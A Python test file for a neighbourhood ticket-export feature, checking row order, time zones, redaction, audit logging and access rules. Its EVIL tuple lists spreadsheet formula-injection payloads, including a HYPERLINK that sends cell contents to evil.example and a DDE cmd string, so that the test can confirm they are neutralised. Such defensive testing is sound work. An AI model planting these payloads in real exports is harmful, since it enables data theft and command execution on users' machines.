"""An export is the list, all of it and nothing more, in a file that does no harm."""

import tracemalloc
from collections.abc import Callable
from datetime import timedelta
from typing import Any
from urllib.parse import parse_qsl
from uuid import uuid4

import pytest
from sqlalchemy import insert, select
from sqlalchemy.orm import Session

from app.core import clock
from app.core.audit import AuditRow
from app.sheets.queries import exported
from app.tickets.models import Ticket
from tests.auditing import unwatched
from tests.clients import Client
from tests.factories import tickets
from tests.factories.tickets import Neighbourhood
from tests.sheets.reading import column, formulas, sheets

Clients = Callable[..., Client]
Work = Callable[[], bool]

EVIL = (
    '=HYPERLINK("http://evil.example/?x="&A1,"看")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "＝1+1",
    "http://evil.example/",
)


@pytest.fixture
def clerk(client: Clients, here: Neighbourhood) -> Client:
    return client(here.people["committee"])


def asked(clerk: Client, query: str = "") -> dict[str, Any]:
    answer = clerk.post(f"/tickets/exports{query}")
    assert answer.status_code == 202, answer.text
    found: dict[str, Any] = answer.json
    return found


def exported_by(clerk: Client, work: Work, query: str = "") -> bytes:
    """Ask, work, fetch."""
    job = asked(clerk, query)
    assert work()
    now = clerk.get(f"/tickets/exports/{job['id']}").json
    assert now["state"] == "done", now
    with clerk.get(f"/tickets/exports/{job['id']}/file") as answer:
        assert answer.status_code == 200
        return answer.data


def listed(clerk: Client, query: str) -> list[str]:
    """The numbers of a list, page by page."""
    numbers: list[str] = []
    words = dict(parse_qsl(query.removeprefix("?")))
    while True:
        page = clerk.get("/tickets", limit=3, **words).json
        numbers += [one["number"] for one in page["items"]]
        if not page["next_cursor"]:
            return numbers
        words["cursor"] = page["next_cursor"]


@pytest.mark.parametrize(
    "query",
    ["", "?queue=to_accept", "?status=in_progress", "?category=order.noise", "?q=%E7%8B%97"],
)
def test_its_rows_are_those_of_the_list(
    session: Session, here: Neighbourhood, clerk: Client, work: Work, query: str
) -> None:
    for number in range(7):
        tickets.report(session, here, text=f"第{number}条狗叫", category="order.noise")
    tickets.started(session, here)
    tickets.closed(session, here)
    session.commit()
    found = listed(clerk, query)
    assert found
    assert column(exported_by(clerk, work, query), "单号") == found


def test_lots_follow_each_other_in_the_order_of_the_list(
    monkeypatch: pytest.MonkeyPatch,
    session: Session,
    here: Neighbourhood,
    clerk: Client,
    work: Work,
) -> None:
    monkeypatch.setattr(exported, "AT_ONCE", 2)
    for _ in range(5):
        tickets.report(session, here)
    session.commit()
    assert column(exported_by(clerk, work, "?sort=created"), "单号") == listed(
        clerk, "?sort=created"
    )


def test_what_somebody_typed_is_never_a_formula_or_a_link(
    session: Session, here: Neighbourhood, clerk: Client, work: Work
) -> None:
    for text in EVIL:
        tickets.report(session, here, text=f"x{text}"[1:], spot=text[:40])
    tickets.report(session, here, text="响铃\x07和\x0b别的")
    session.commit()
    content = exported_by(clerk, work)
    assert formulas(content) == []
    texts = column(content, "内容")
    assert {text.strip() for text in EVIL} <= {str(text).strip() for text in texts}
    assert "响铃和别的" in texts


def test_moments_are_those_of_shanghai(
    session: Session, here: Neighbourhood, clerk: Client, work: Work
) -> None:
    ticket = tickets.report(session, here)
    session.commit()
    [cell] = column(exported_by(clerk, work), "报事时间")
    local = ticket.created_at.astimezone(clock.LOCAL).replace(tzinfo=None)
    assert abs(cell - local) < timedelta(seconds=1)  # type: ignore[operator]


def test_the_company_gets_no_names_no_doors_and_nobodys_consent(
    session: Session, here: Neighbourhood, client: Clients, work: Work
) -> None:
    tickets.started(session, here, public_area=False, agreed_by="302的王阿姨")
    session.commit()
    content = exported_by(client(here.people["property"]), work)
    head = sheets(content)["工单"][0]
    assert not {"报事人", "谁同意报的", "住户"} & set(head)
    said = str(sheets(content))
    assert "王阿姨" not in said
    assert here.people["volunteer"].name not in said
    full = sheets(exported_by(client(here.people["committee"]), work))
    assert "302的王阿姨" in str(full)
    assert here.people["volunteer"].name in str(full)


def test_the_second_sheet_says_what_this_is_and_who_has_it(
    session: Session, here: Neighbourhood, clerk: Client, work: Work
) -> None:
    tickets.report(session, here)
    session.commit()
    about = {
        str(row[0]): row[1]
        for row in sheets(exported_by(clerk, work, f"?queue=to_accept&estate_id={here.estate.id}"))[
            "说明"
        ]
    }
    assert about["导出人"] == here.people["committee"].name
    assert about["件数"] == 1
    assert about["栏目"] == "待受理"
    assert about["小区"] == here.estate.name


def test_who_exported_how_many_stands_in_the_audit_log(
    session: Session, here: Neighbourhood, clerk: Client, work: Work
) -> None:
    tickets.report(session, here)
    session.commit()
    exported_by(clerk, work, "?q=%E7%81%AF")
    row = session.scalars(select(AuditRow).where(AuditRow.verb == "tickets_exported")).one()
    assert row.actor_id == here.people["committee"].id
    assert row.details == {"tickets": 1, "filter": {}, "searched": True}


def test_only_its_maker_may_look_at_it(
    here: Neighbourhood, client: Clients, clerk: Client, work: Work
) -> None:
    job = asked(clerk)
    assert work()
    other = client(here.people["secretary"])
    for path in ("", "/file"):
        assert other.get(f"/tickets/exports/{job['id']}{path}").status_code == 404
    assert other.delete(f"/tickets/exports/{job['id']}").status_code == 404
    assert other.get("/tickets/exports").json["items"] == []
    assert len(clerk.get("/tickets/exports").json["items"]) == 1


def test_a_queue_of_somebody_else_is_refused_at_once(client: Clients, here: Neighbourhood) -> None:
    answer = client(here.people["property"]).post("/tickets/exports?queue=to_accept")
    assert answer.status_code == 422
    assert list(answer.json["errors"]) == ["queue"]


def test_a_volunteer_has_no_office_to_export_for(client: Clients, here: Neighbourhood) -> None:
    assert client(here.people["volunteer"]).post("/tickets/exports").status_code == 403


def test_ten_times_as_many_tickets_take_no_more_memory(
    session: Session, here: Neighbourhood, clerk: Client, work: Work
) -> None:
    model = tickets.report(session, here, text="楼道灯不亮" * 60)
    columns = {one.key: getattr(model, one.key) for one in Ticket.__mapper__.column_attrs}
    peaks = []
    for number in (600, 5400):
        copies = [columns | {"id": uuid4(), "number": uuid4().hex[:16]} for _ in range(number)]
        with unwatched():
            session.execute(insert(Ticket), copies)
            session.commit()
        tracemalloc.start()
        content = exported_by(clerk, work)
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
    assert len(column(content, "单号")) == 6001
    assert peaks[1] < peaks[0] + 2 * 2**20
